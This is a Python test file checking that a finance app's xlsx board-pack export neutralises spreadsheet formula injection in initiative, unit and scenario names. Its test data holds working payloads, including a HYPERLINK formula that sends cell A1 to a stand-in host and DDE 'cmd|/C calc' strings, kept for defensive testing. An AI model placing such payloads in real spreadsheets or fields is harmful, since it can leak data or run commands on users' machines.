"""Case 17 — formula injection (OWASP "CSV injection") in names and comments: text that begins
with ``= + - @``, a tab, CR, LF or NUL is stored verbatim, and on export every such text cell is
prefixed with ``'`` so a spreadsheet shows it as text and never runs it; numbers (negative costs
too) stay numbers.

The one export of user data is the board pack (``core.finance.board_pack``, an .xlsx written by
xlsxwriter with ``strings_to_formulas`` off). Not covered, and why:

* RFC 4180 quoting of a CSV export: the app writes no CSV of user data (its only CSV download is
  an import template, core-defined text); the CSV button of Streamlit's dataframe toolbar is
  built in the browser from the shown table, out of the server's reach.
* "Round-trip import strips the escape": no export is in an import format (the board pack is a
  report, not an initiatives file), so nothing makes the trip; stripping a leading ``'`` on
  import would belong to the import kinds (core/ingest/kinds, changed by someone else now).
* A NUL-prefixed name cannot be stored: a CSV with a NUL byte is refused as binary (case 2) and
  an xlsx cannot hold one; ``neutralise`` is checked with it directly."""

from __future__ import annotations

import io

import openpyxl
import pytest

from core.finance.board_pack import DANGEROUS_PREFIXES, build_board_pack, neutralise
from core.finance.roi import RoiScope, parse_scope
from core.finance.scenarios import ScenarioConfig
from core.ingest import import_upload
from core.ingest.templates import template_csv
from tests.conftest import ADMIN, FINANCE
from tests.unit.finance.test_board_pack import _book, hostile_store  # noqa: F401 (hostile_store: a fixture)

HOSTILE = ["=HYPERLINK(\"http://evil\",\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "\nLF", "\0NUL"]
# the case's payloads that a file can carry into the store (all but the NUL one)
STORABLE = ['=HYPERLINK("http://x/?"&A1,"x")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1", "\n=1"]
HOSTILE_UNIT = "=cmd|' /C calc'!A0"


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def imported_store(tiny_store):
    """The payloads as initiative names of a new unit LAB and as its name, through the importer,
    each initiative with a cost line (so it is ranked in the pack)."""
    header = template_csv("initiatives").splitlines()[0]
    rows = [f"X-{n:02d},{_csv_cell(name)},LAB,pilot,predictive,Owner,ML Platform,KPI,1,2,1,low,cloud,none,"
            f"2026-01-15,,,{_csv_cell(HOSTILE_UNIT)},{_csv_cell(name)}" for n, name in enumerate(STORABLE)]
    result = import_upload(tiny_store, ADMIN, "initiatives", "initiatives.csv",
                           ("\n".join([header, *rows]) + "\n").encode(), dry_run=False)
    assert result.status == "imported", result.problems
    lines = "\n".join(["initiative,month,category,kind,scenario,amount"]
                      + [f"X-{n:02d},2026-02-01,compute,cost,actual,{10 + n}" for n in range(len(STORABLE))])
    result = import_upload(tiny_store, FINANCE, "financials", "lines.csv", (lines + "\n").encode(), dry_run=False)
    assert result.status == "imported", result.problems
    return tiny_store


def _cells(data: bytes):
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def _assert_nothing_can_run(data: bytes) -> None:
    for title, cell in _cells(data):
        assert cell.data_type != "f", f"{title}!{cell.coordinate} is a formula"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS_PREFIXES), f"{title}!{cell.coordinate}: {cell.value!r}"


def test_the_payloads_are_stored_verbatim(imported_store):
    stored = dict(imported_store.rows("SELECT code, name FROM initiative WHERE code LIKE 'X-%'"))
    assert [stored[f"X-{n:02d}"] for n in range(len(STORABLE))] == STORABLE
    assert imported_store.scalar("SELECT name FROM business_unit WHERE code = 'LAB'") == HOSTILE_UNIT
    assert imported_store.scalar("SELECT description FROM initiative WHERE code = 'X-00'") == STORABLE[0]


@pytest.mark.parametrize("scope", ["portfolio", "bu:LAB"])
def test_no_text_cell_of_the_board_pack_can_run_and_each_payload_is_escaped(imported_store, scope):
    data = build_board_pack(imported_store, FINANCE, parse_scope(imported_store, scope), "all", 0.10)
    _assert_nothing_can_run(data)
    texts = {cell.value for _, cell in _cells(data) if isinstance(cell.value, str)}
    for name in STORABLE:  # (an XML reader turns a bare CR into LF: openpyxl reads '\r=1' back as '\n=1')
        assert "'" + name.replace("\r", "\n") in texts, name
    if scope != "portfolio":  # the scope's label carries the unit's name
        assert f"'{HOSTILE_UNIT} (LAB)" in texts


def test_negative_money_stays_a_number(imported_store):
    """'-2+3' as a name is escaped, but a negative amount is a number cell, not text."""
    with imported_store.system_write(action="test.fixture") as cur:
        cur.execute("INSERT INTO financial_line (initiative, month, category, kind, scenario, amount)"
                    " VALUES ('X-02', '2026-02-01', 'compute', 'cost', 'plan', 500)")
    data = build_board_pack(imported_store, FINANCE, RoiScope(), "all", 0.10)
    book = openpyxl.load_workbook(io.BytesIO(data))
    variance = book["Budget vs Actual"]
    header = [c.value for c in variance[1]]
    negative = [row[header.index("Variance")] for row in variance.iter_rows(min_row=2)
                if isinstance(row[header.index("Variance")].value, (int, float))
                and row[header.index("Variance")].value < 0]
    assert negative and all(cell.data_type == "n" and "$" in cell.number_format for cell in negative)
    initiatives = book["Initiatives"]
    header = [c.value for c in initiatives[1]]
    npvs = [row[header.index("NPV (baseline)")] for row in initiatives.iter_rows(min_row=2)]
    assert any(cell.value < 0 for cell in npvs) and all(cell.data_type == "n" for cell in npvs)


# moved from tests/unit/finance/test_board_pack.py
@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_a_quote_to_formula_starts(text):
    assert neutralise(text) == "'" + text


def test_neutralise_leaves_plain_text_alone():
    assert neutralise("Voice-of-customer analytics") == "Voice-of-customer analytics"


def test_initiative_names_cannot_run_as_formulas(hostile_store):
    book = _book(hostile_store)
    names = [row[1] for row in book["Initiatives"].iter_rows(min_row=2, values_only=True)]
    assert "'=HYPERLINK(\"http://evil\",\"click\")" in names and "'@SUM(1+1)" in names
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"


WHAT_IF = ScenarioConfig(vendor_price_change=-0.9, volume_growth_monthly=0.05, benefits_scale_with_volume=True)


@pytest.mark.parametrize("name", HOSTILE[:4])
def test_a_scenario_name_cannot_run_as_a_formula(tiny_store, name):
    book = openpyxl.load_workbook(io.BytesIO(build_board_pack(tiny_store, FINANCE, RoiScope(), "all", 0.1,
                                                              WHAT_IF, name)))
    summary = {row[0].value: row[1].value for row in book["Summary"].iter_rows(min_row=4) if row[0].value}
    assert summary["Scenario"] == "'" + name
    for sheet in book:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
